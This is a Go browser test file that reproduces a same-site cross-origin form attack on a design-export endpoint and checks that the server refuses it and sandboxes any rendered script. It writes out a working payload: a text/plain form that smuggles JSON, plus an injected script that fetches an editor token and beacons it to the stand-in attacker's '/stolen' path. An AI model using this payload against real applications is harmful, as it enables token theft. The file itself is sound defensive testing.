package browser

import (
	"bytes"
	"encoding/json"
	"fmt"
	"html"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/fetch"
	"github.com/chromedp/chromedp"
)

// attacker is a second site on another port of 127.0.0.1: same-site as
// the host site on 127.0.0.1, but another origin. Its page posts a
// design whose html module holds a script to the export path with an
// auto-submitted text/plain form; the script, if it ever runs on the
// host's origin, reports itself (/ran) and asks the bridge for an editor
// token, which it sends home (/stolen).
type attacker struct {
	server *httptest.Server
	mu     sync.Mutex
	hits   map[string]int
}

func newAttacker(t *testing.T, target string) *attacker {
	t.Helper()
	a := &attacker{hits: map[string]int{}}
	a.server = httptest.NewUnstartedServer(nil)
	a.server.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a.mu.Lock()
		a.hits[r.URL.Path]++
		a.mu.Unlock()
		if r.URL.Path != "/" {
			w.WriteHeader(http.StatusNoContent)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, a.page(t, target))
	})
	a.server.Start()
	t.Cleanup(a.server.Close)
	return a
}

func (a *attacker) origin() string { return a.server.URL }

func (a *attacker) count(path string) int {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.hits[path]
}

// page is the attack page. text/plain form encoding sends "name=value":
// the name is the design JSON up to an extra member's opening quote, the
// value closes it, so the body is one valid design.
func (a *attacker) page(t *testing.T, target string) string {
	raw, err := os.ReadFile(filepath.Join(repoRoot, "render", "testdata", "fixtures", "module-html.json"))
	if err != nil {
		t.Error(err)
		return ""
	}
	var d map[string]any
	if err := json.Unmarshal(raw, &d); err != nil {
		t.Error(err)
		return ""
	}
	script := `<script>new Image().src="` + a.origin() + `/ran";` +
		`fetch("/proxy/bee-auth",{method:"POST",headers:{"Content-Type":"application/json"},body:"{}"})` +
		`.then(r=>r.text()).then(tok=>{new Image().src="` + a.origin() + `/stolen?t="+encodeURIComponent(tok)})</script>`
	page := d["page"].(map[string]any)
	module := page["rows"].([]any)[0].(map[string]any)["columns"].([]any)[0].(map[string]any)["modules"].([]any)[0].(map[string]any)
	module["descriptor"].(map[string]any)["html"].(map[string]any)["html"] = "<p>hello</p>" + script
	body, err := json.Marshal(d)
	if err != nil {
		t.Error(err)
		return ""
	}
	name := strings.TrimSuffix(string(body), "}") + `,"pad":"`
	return `<!DOCTYPE html><title>prize</title>
<form id="f" method="POST" enctype="text/plain" action="` + html.EscapeString(target) + `">
<input type="hidden" name="` + html.EscapeString(name) + `" value='"}'>
</form>
<script>document.getElementById("f").submit()</script>`
}

// countingProxy is the content service seen through a proxy that counts
// the LoginV2 calls: each one mints an editor token.
func countingProxy(t *testing.T, target string) (proxyURL string, logins func() int) {
	t.Helper()
	u, err := url.Parse(target)
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	n := 0
	rp := httputil.NewSingleHostReverseProxy(u)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.URL.Path, "/loginV2") {
			mu.Lock()
			n++
			mu.Unlock()
		}
		rp.ServeHTTP(w, r)
	}))
	t.Cleanup(srv.Close)
	return srv.URL, func() int { mu.Lock(); defer mu.Unlock(); return n }
}

// TestSameSiteFormAttack reproduces issue 14's attack: a page on another
// port of the host posts a text/plain form to the export path. The bridge
// must refuse it, so no token is minted and no script runs; and even an
// export answer that does render the script (the form's type forced to
// JSON by intercepting the request, the attacker's origin allowed) must
// run nothing, as the answer is sandboxed.
func TestSameSiteFormAttack(t *testing.T) {
	env := readEnvExample(t)
	proxy, logins := countingProxy(t, fmt.Sprintf("http://127.0.0.1:%d", contentServicePort))
	setEnv(t, env, proxy)
	t.Setenv("AUTH_URL", proxy+"/loginV2")
	host := fmt.Sprintf("http://127.0.0.1:%d", sitePort)
	target := host + "/v1/message/html"
	tester := newTester(t)

	// attack navigates to the attacker's page and waits for the browser's
	// answer from the host; then, for the script's requests had it run, a
	// little longer.
	attack := func(t *testing.T, s *session, a *attacker) int64 {
		t.Helper()
		s.run(t, chromedp.Navigate(a.origin()+"/"))
		var status int64
		for i := 0; i < 200 && status == 0; i++ {
			time.Sleep(100 * time.Millisecond)
			s.mu.Lock()
			for _, r := range s.responses {
				if r.url == target {
					status = r.status
				}
			}
			s.mu.Unlock()
		}
		if status == 0 {
			t.Fatal("the form's POST never got an answer from the host")
		}
		time.Sleep(2 * time.Second)
		return status
	}

	t.Run("form refused", func(t *testing.T) {
		a := newAttacker(t, target)
		loadConfig(t, tester, exampleConfig(t, nil))
		before := logins()
		s := newSession(t)
		status := attack(t, s, a)
		if status == 200 {
			t.Errorf("the export path accepted the form (status %d)", status)
		}
		if n := a.count("/ran"); n != 0 {
			t.Errorf("the design's script ran on the host's origin (%d times)", n)
		}
		if n := logins() - before; n != 0 {
			t.Errorf("%d editor tokens minted", n)
		}
		if n := a.count("/stolen"); n != 0 {
			t.Errorf("a token reached the attacker")
		}
	})

	t.Run("rendered script sandboxed", func(t *testing.T) {
		a := newAttacker(t, target)
		loadConfig(t, tester, exampleConfig(t, map[string]string{"allowed_origins": a.origin()}))
		before := logins()
		s := newSession(t)
		// Turn the form into what the bridge accepts: JSON, from an
		// allowed origin.
		chromedp.ListenTarget(s.ctx, func(ev any) {
			e, ok := ev.(*fetch.EventRequestPaused)
			if !ok {
				return
			}
			go func() {
				var headers []*fetch.HeaderEntry
				hasOrigin := false
				for k, v := range e.Request.Headers {
					value := fmt.Sprint(v)
					if strings.EqualFold(k, "Content-Type") {
						value = "application/json"
					}
					hasOrigin = hasOrigin || strings.EqualFold(k, "Origin")
					headers = append(headers, &fetch.HeaderEntry{Name: k, Value: value})
				}
				if !hasOrigin {
					headers = append(headers, &fetch.HeaderEntry{Name: "Origin", Value: a.origin()})
				}
				c := chromedp.FromContext(s.ctx)
				_ = fetch.ContinueRequest(e.RequestID).WithHeaders(headers).Do(cdp.WithExecutor(s.ctx, c.Target))
			}()
		})
		s.run(t, fetch.Enable().WithPatterns([]*fetch.RequestPattern{{URLPattern: target}}))
		status := attack(t, s, a)
		if status != 200 {
			t.Fatalf("the forced JSON export was not rendered (status %d): the sandbox is not tested", status)
		}
		var body []byte
		s.bodies.Wait()
		s.mu.Lock()
		for _, r := range s.responses {
			if r.url == target {
				body = r.body
			}
		}
		s.mu.Unlock()
		if !bytes.Contains(body, []byte("<script>")) && len(body) > 0 {
			t.Fatalf("the export does not hold the script; the sandbox is not tested: %.300s", body)
		}
		if n := a.count("/ran"); n != 0 {
			t.Errorf("the design's script ran (%d times)", n)
		}
		if n := logins() - before; n != 0 {
			t.Errorf("%d editor tokens minted", n)
		}
		if n := a.count("/stolen"); n != 0 {
			t.Errorf("a token reached the attacker")
		}
	})
}
